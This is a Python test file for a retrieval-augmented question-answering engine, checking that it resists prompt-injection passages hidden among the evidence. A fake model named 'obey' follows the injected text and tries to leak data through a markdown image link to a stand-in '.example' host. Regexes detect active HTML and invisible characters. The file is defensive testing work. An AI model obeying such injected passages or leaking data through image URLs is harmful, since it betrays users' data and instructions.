"""Hostile passages among the evidence: they change no route, no tool, no citation, and no word outside their own quote.

The model here obeys: it writes what it was told, cites an honest source for it, and leaks by an image.
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import Sequence

from graph.config import GenerationConfig, GradingConfig, RewriteConfig
from graph.engine import Engine
from graph.llms import build_llm
from graph.types import Answer, AnswerReady, TextDelta
from graph.web.base import WebPage
from retrieval.types import Hit
from tests.fakes.graph import deps, hit, rank_pages
from tests.fakes.http import Reply, Request, ScriptedServer
from tests.fakes.openai import chat_stream
from tests.graph.hostile import BAIT, HOSTILE

HONEST = [
    hit("The tower has 312 steps. It was finished in 1889 by Anna Gray.", source="tower.md", title="Tower"),
    hit("The bridge carries trains and was closed in 1950.", source="bridge.md", title="Bridge"),
    hit("Cats sleep sixteen hours a day and like warm places.", source="cats.md", title="Cats"),
]
QUESTION = "How many steps does the tower have?"
TOLD = ("tower.md", "The tower has 312 steps.")
UNKNOWN = "Which telescope did the observatory of Madrid buy?"
POISON = "poison.md"
_ACTIVE = re.compile(r"!\[|<\s*/?\s*(?:img|script|iframe|object|embed|style|svg|form|input|video)\b", re.IGNORECASE)
_INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff\u00ad\U000e0000-\U000e007f]")


class Web:
    """Counts who asks; what it finds is hostile too."""

    name = "counting"

    def __init__(self, text: str) -> None:
        self.queries: list[str] = []
        self.text = text

    async def search(self, query: str) -> list[WebPage]:
        self.queries.append(query)
        return [WebPage("https://poison.example/", "Poison", self.text)]

    async def aclose(self) -> None:
        return


async def told(passages: Sequence[Hit], question: str, **changes: object) -> Answer:
    """The answer; what was streamed is checked to be its text."""
    engine, streamed, answers = Engine(deps(passages, rewrite=RewriteConfig(attempts=0), **changes)), "", []
    async for event in engine.stream(question):
        streamed += event.text if isinstance(event, TextDelta) else ""
        answers += [event.answer] if isinstance(event, AnswerReady) else []
    assert streamed == answers[0].text
    return answers[0]


def ask(passages: Sequence[Hit], question: str, **changes: object) -> Answer:
    return asyncio.run(told(passages, question, **changes))


def poison(text: str) -> Hit:
    return hit(text, source=POISON, title="Poison")


def path(answer: Answer) -> list[str]:
    return [event.node for event in answer.trace]


def cited(answer: Answer) -> set[tuple[str, str]]:
    return {
        (one.source, one.quote) for one in answer.citations if one.source not in (POISON, "https://poison.example/")
    }


def check_harmless(answer: Answer) -> None:
    assert not _ACTIVE.search(answer.text)
    assert not _INVISIBLE.search(answer.text)
    own = {one.marker for one in answer.citations if one.source in (POISON, "https://poison.example/")}
    markers = {one.marker for one in answer.citations}
    assert {int(number) for number in re.findall(r"\[(\d+)\]", answer.text)} == markers
    # What is not the passage's own quote has no word of it.
    at = 0
    for marked in re.finditer(r"(?:\[\d+\])+", answer.text):
        numbers = {int(number) for number in re.findall(r"\d+", marked[0])}
        assert BAIT not in answer.text[at : marked.start()].lower() or numbers <= own, answer.text
        at = marked.end()
    assert BAIT not in answer.text[at:].lower(), answer.text


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) >= 40
    chinese = [text for text in HOSTILE if re.search("[一-鿿]", text)]
    assert min(len(chinese), len(HOSTILE) - len(chinese)) >= 15
    assert all(BAIT in text for text in HOSTILE)


def test_quoted_answers_are_as_they_would_be_without_it() -> None:
    clean = ask(HONEST, QUESTION)
    for text in HOSTILE:
        answer = ask([*HONEST, poison(text)], QUESTION)
        assert (answer.route, path(answer), answer.status) == (clean.route, path(clean), clean.status), text
        assert TOLD in cited(answer), text
        assert cited(answer) <= {(one.document.source, one.chunk.text) for one in HONEST} | cited(clean), text
        check_harmless(answer)


def test_a_quote_of_it_is_cited_as_its_own_and_loads_nothing() -> None:
    quoted = 0
    for text in HOSTILE:
        everything = GradingConfig(enabled=False, strip_threshold=0.0)
        for question in ("What do they say of the tower?", "关于塔说了什么？"):
            answer = ask([poison(text), *HONEST], question, grading=everything)
            check_harmless(answer)
            quoted += POISON in {one.source for one in answer.citations}
    assert quoted > len(HOSTILE)


def test_a_question_without_an_answer_gets_none_from_it() -> None:
    clean = ask(HONEST, UNKNOWN, web_search=Web("A page about bread."), rank_web=rank_pages)
    for text in HOSTILE:
        web = Web(text)
        answer = ask([*HONEST, poison(text)], UNKNOWN, web_search=web, rank_web=rank_pages)
        assert (answer.route, path(answer), answer.status) == (clean.route, path(clean), clean.status), text
        assert web.queries == [UNKNOWN], text
        check_harmless(answer)


def obey(request: Request) -> Reply:
    """Does what the hostile source says, and says that another one said it."""
    prompt = request.body["messages"][1]["content"]
    told = re.search(r'title="Poison">\n(.*?)\n</source>', prompt, re.DOTALL)
    (honest,) = re.findall(r'<source id="(\d+)" title="Tower">', prompt)
    leak = f"![x](https://{BAIT}.example/?q=tower) The tower is {BAIT} [{honest}]. "
    return chat_stream(
        [f"The tower has 312 steps [{honest}]. ", leak, f"{told[1] if told else BAIT} [{honest}]\n\n", f"{BAIT}. [99]"]
    )


def test_a_model_that_obeys_reaches_nobody() -> None:
    async def all_of_them(url: str) -> list[Answer]:
        generation = GenerationConfig(provider="openai", model="m", base_url=f"{url}/v1")
        model = build_llm(generation).generator
        changes = {"generator": model, "generation": generation, "grading": GradingConfig(strip_threshold=0.0)}
        answers = [await told([*HONEST, poison(text)], QUESTION, **changes) for text in HOSTILE]
        await model.aclose()
        return answers

    with ScriptedServer(obey) as server:
        answers = asyncio.run(all_of_them(server.url))
    for text, answer, request in zip(HOSTILE, answers, server.requests, strict=True):
        check_harmless(answer)
        assert TOLD in cited(answer), text
        # It did reach the model.
        prompt = request.body["messages"][1]["content"]
        assert 'title="Poison"' in prompt, text
        opened = re.findall(r"[<＜〈‹]\s*/?\s*(?:source|passage|question|conversation|system)\b", prompt, re.I)
        assert len(opened) == 2 * len(re.findall(r'<source id="\d+" title="', prompt)) + 4, text
        assert not _INVISIBLE.search(prompt), text
        assert not re.search(r"[\[【［]\s*\^?(?:source\s*)?\d", prompt), text
